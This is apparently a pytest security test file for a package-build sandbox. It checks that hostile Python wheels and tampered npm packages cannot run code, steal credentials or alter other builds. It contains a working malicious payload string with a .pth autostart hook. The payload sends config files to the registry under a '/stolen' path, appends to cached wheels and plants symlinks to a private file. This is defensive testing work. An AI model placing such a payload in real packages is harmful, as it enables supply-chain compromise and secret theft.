"""Packages that attack the host which builds with them, and the builds of others."""

from __future__ import annotations

import base64
import hashlib
import json
import os
import shutil
import stat
import sys
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from solven_env.errors import BuildError, LockError, SolvenError
from solven_env.packages import store, toolchain
from solven_env.packages.ecosystems.bun import Bun, locking, node_modules, program
from solven_env.packages.ecosystems.python import Python, pip_compile, virtual_environment, wheels
from solven_env.packages.making import Builder
from solven_env.sandbox.backends import bubblewrap
from tests.packages.layered import UID
from tests.packages.registry import basic, serve, tarball
from tests.sandbox.running import BWRAP

if TYPE_CHECKING:
    from collections.abc import Callable

    from tests.packages.registry import Registry

pytestmark = pytest.mark.attack("packages")

VERSION = f"{sys.version_info.major}.{sys.version_info.minor}"
SITE = f"lib/python{VERSION}/site-packages"
TOKEN = "sesame"
SECRET = b"a file of the host's that only its owner may read\n"

# Runs in whatever interpreter finds the environment's `.pth`: each attack by itself, whether or not the others work.
ATTACKS = """
import os, urllib.parse, urllib.request
def files(directory):
    return [os.path.join(above, name) for above, _, names in os.walk("/run/solven-env/" + directory) for name in names]
def attack(what):
    try:
        what()
    except BaseException as error:
        pass
def mark():
    open("/.venv/ran", "w").close()
def tell():
    said = "".join(open(path).read() for path in files("config"))
    urllib.request.urlopen({address!r} + "/stolen?" + urllib.parse.quote(said), timeout=5).read()
def alter():
    for path in files("cache") + files("wheels"):
        if path.endswith(("solven_six.py", ".whl")):
            with open(path, "a") as file:
                file.write("ALTERED = True\\n")
def plant():
    for name in ("pyproject.toml", "python.txt", "names.txt", "uv.lock"):
        if os.path.lexists("/" + name):
            os.unlink("/" + name)
        os.symlink({victim!r}, "/" + name)
for what in (mark, tell, alter, plant):
    attack(what)
"""


@pytest.fixture
def victim(directory: Path) -> Path:
    path = directory / "victim"
    path.write_bytes(SECRET)
    path.chmod(0o600)
    return path


@pytest.fixture
def build_with(
    environ: dict[str, str],
    runtime: str,
    directory: Path,
) -> Callable[..., Builder]:
    """Makes a builder whose only index and npm registry is the one given, with credentials."""

    def make(registry: Registry) -> Builder:
        home = Path(environ["HOME"])
        netloc = registry.address.partition("//")[2]
        (home / ".netrc").write_text(f"machine {netloc.partition(':')[0]} login ada password {TOKEN}\n")
        own = {
            "UV_CACHE_DIR": str(directory / "uv"),
            "UV_DEFAULT_INDEX": f"{registry.address}/simple",
            "npm_config_registry": registry.address,
        }
        return Builder(toolchain.host(directory / "cache", {**environ, **own}), UID, runtime, bubblewrap, BWRAP)

    return make


def publish(registry: Registry, victim: Path) -> None:
    code = ATTACKS.format(address=registry.address, victim=str(victim)).encode()
    start = f"import sys; exec(open('/.venv/{SITE}/solven_evil.py').read(), {{}})\n".encode()
    registry.add_wheel("solven_evil", "1.0", {"solven_evil.py": code, "solven_evil.pth": start})
    registry.add_wheel("solven_six", "1.0", {"solven_six.py": b"ANSWER = 6\n"})
    registry.add_wheel("pip", "26.0", {"pip.py": b""})


def test_no_code_of_a_package_runs_while_a_build_is_made(
    build_with: Callable[..., Builder], victim: Path, directory: Path
) -> None:
    with serve(basic("ada", TOKEN)) as registry:
        publish(registry, victim)
        builder = build_with(registry)
        both = Python(VERSION, ("solven-evil", "solven-six"))
        lock = pip_compile.resolve(both, b"", builder).text
        made = virtual_environment.build(both, lock, builder)
        assert not (made.tree / "ran").exists()
        assert [path for path in registry.seen if "stolen" in path] == []
        assert victim.read_bytes() == SECRET
        assert stat.S_IMODE(victim.stat().st_mode) == 0o600
        assert SECRET not in (store.file_beside(made, "uv.lock") or b"")
        assert (made.tree / SITE / "solven_evil.pth").exists()  # it is installed, and compiled
        assert list((made.tree / SITE / "__pycache__").glob("solven_evil.*"))
        # and another profile's package is what its lock says
        alone = Python(VERSION, ("solven-six",))
        other = virtual_environment.build(alone, pip_compile.resolve(alone, b"", builder).text, builder)
        assert (other.tree / SITE / "solven_six.py").read_bytes() == b"ANSWER = 6\n"


def test_what_installs_and_compiles_has_neither_network_nor_credentials(
    build_with: Callable[..., Builder], victim: Path, directory: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The second wall: as if the interpreter that compiles did run what packages bring."""
    code = f"/.venv/{SITE}/solven_evil.py"
    monkeypatch.setattr(
        virtual_environment, "_COMPILE", f"import os; os.path.exists({code!r}) and exec(open({code!r}).read(), {{}})"
    )
    with serve(basic("ada", TOKEN)) as registry:
        publish(registry, victim)
        builder = build_with(registry)
        both = Python(VERSION, ("solven-evil", "solven-six"))
        lock = pip_compile.resolve(both, b"", builder).text
        made = virtual_environment.build(both, lock, builder)
        assert (made.tree / "ran").exists()  # it ran, and came nowhere
        assert [path for path in registry.seen if "stolen" in path] == []
        assert victim.read_bytes() == SECRET
        assert SECRET not in (store.file_beside(made, "uv.lock") or b"")
        alone = Python(VERSION, ("solven-six",))
        other = virtual_environment.build(alone, pip_compile.resolve(alone, b"", builder).text, builder)
        assert (other.tree / SITE / "solven_six.py").read_bytes() == b"ANSWER = 6\n"


def test_a_wheel_is_believed_for_the_digests_of_its_lock_alone(
    build_with: Callable[..., Builder], directory: Path
) -> None:
    """A registry gave other bytes under one name and version to a lock with other digests."""
    wanted = Python(VERSION, ("solven-six",))
    answers = []
    with serve(basic("ada", TOKEN)) as registry:
        registry.add_wheel("pip", "26.0", {"pip.py": b""})
        builder = build_with(registry)
        for text in (b"ANSWER = 'another'\n", b"ANSWER = 6\n"):
            registry.add_wheel("solven_six", "1.0", {"solven_six.py": text})
            lock = pip_compile.resolve(wanted, b"", uncached(builder)).text
            made = virtual_environment.build(wanted, lock, builder)
            answers.append((made.tree / SITE / "solven_six.py").read_bytes())
    assert answers == [b"ANSWER = 'another'\n", b"ANSWER = 6\n"]


def test_a_package_that_nobody_asked_for_is_refused_at_its_line(
    build_with: Callable[..., Builder], victim: Path
) -> None:
    with serve(basic("ada", TOKEN)) as registry:
        publish(registry, victim)
        builder = build_with(registry)
        lock = pip_compile.resolve(Python(VERSION, ("solven-evil", "solven-six")), b"", builder).text
        line = 1 + lock.splitlines().index(next(each for each in lock.splitlines() if each.startswith(b"solven-evil")))
        with pytest.raises(LockError, match="nothing asks for solven-evil") as caught:
            virtual_environment.build(Python(VERSION, ("solven-six",)), lock, builder)
        assert caught.value.location == f"python.txt:{line}"


def test_a_wheel_that_lost_its_end_is_fetched_again(build_with: Callable[..., Builder], victim: Path) -> None:
    with serve(basic("ada", TOKEN)) as registry:
        publish(registry, victim)
        builder = build_with(registry)
        wanted = Python(VERSION, ("solven-six",))
        lock = pip_compile.resolve(wanted, b"", builder).text
        made = virtual_environment.build(wanted, lock, builder)
        shutil.rmtree(made.path)
        for wheel in (builder.host.cache / "wheels").glob("solven-six-*/*.whl"):
            os.truncate(wheel, 10)
        assert (
            virtual_environment.build(wanted, lock, builder).tree / SITE / "solven_six.py"
        ).read_bytes() == b"ANSWER = 6\n"


@pytest.mark.parametrize("kind", ["link", "pipe"])
def test_only_files_of_a_wheel_are_kept(tmp_path: Path, victim: Path, kind: str) -> None:
    (tmp_path / "solven_evil-1.0.dist-info").mkdir()
    if kind == "link":
        (tmp_path / "evil.py").symlink_to(victim)
    else:
        os.mkfifo(tmp_path / "evil.py")
    with pytest.raises(SolvenError):
        wheels._keep(tmp_path, tmp_path / "store/evil")
    assert list((tmp_path / "store").rglob("*.whl")) == []


def uncached(builder: Builder) -> Builder:
    """The same with a new cache of uv's for resolving, which keeps what an index said."""
    given = {**builder.host._given, "UV_CACHE_DIR": str(builder.host.cache / os.urandom(4).hex())}
    return builder._replace(host=toolchain.host(builder.host.cache, given))


def npm(registry: Registry, name: str, version: str, text: bytes) -> str:
    """Serve a package of these bytes; its digest as bun.lock writes it."""
    about = json.dumps({"name": name, "version": version}).encode()
    data = tarball({"package/package.json": about, "package/index.js": text})
    integrity = "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()
    registry.add_npm(name, version)
    page = json.loads(registry.pages[f"/{name}"][1])
    page["versions"][version]["dist"]["integrity"] = integrity
    registry.pages[f"/{name}"] = ("application/json", json.dumps(page).encode())
    registry.pages[f"/{name}/-/{name}-{version}.tgz"] = ("application/octet-stream", data)
    return integrity


def test_a_bun_package_is_believed_for_the_digest_of_its_lock_alone(
    build_with: Callable[..., Builder],
    host: toolchain.Toolchain,
    directory: Path,
) -> None:
    wanted = Bun({"solven-acme": "1.0.0"})
    answers = []
    with serve() as registry:
        builder = build_with(registry)
        bring_bun(builder, host)
        for text in (b"module.exports = 'another'\n", b"module.exports = 42\n"):
            npm(registry, "solven-acme", "1.0.0", text)
            made = node_modules.build(wanted, locking.resolve(wanted, b"", builder.host), builder)
            answers.append((made.tree / "solven-acme/index.js").read_bytes())
    assert answers == [b"module.exports = 'another'\n", b"module.exports = 42\n"]


def test_a_bun_package_that_does_not_fit_its_digest_is_not_installed(
    build_with: Callable[..., Builder],
    host: toolchain.Toolchain,
) -> None:
    wanted = Bun({"solven-acme": "1.0.0"})
    with serve() as registry:
        genuine = npm(registry, "solven-acme", "1.0.0", b"module.exports = 42\n")
        builder = build_with(registry)
        bring_bun(builder, host)
        lock = locking.resolve(wanted, b"", builder.host)
        assert genuine.encode() in lock
        npm(registry, "solven-acme", "1.0.0", b"module.exports = 'another'\n")
        with pytest.raises(BuildError, match=r"(?i)integrity"):
            node_modules.build(wanted, lock, builder)


def bring_bun(builder: Builder, host: toolchain.Toolchain) -> None:
    """The pinned Bun, from the cache that tests share."""
    found = program.find(host).path.parent
    tools = builder.host.cache / "tools"
    tools.mkdir(exist_ok=True, mode=0o700)
    if not (tools / found.name).exists():
        (tools / found.name).symlink_to(found)
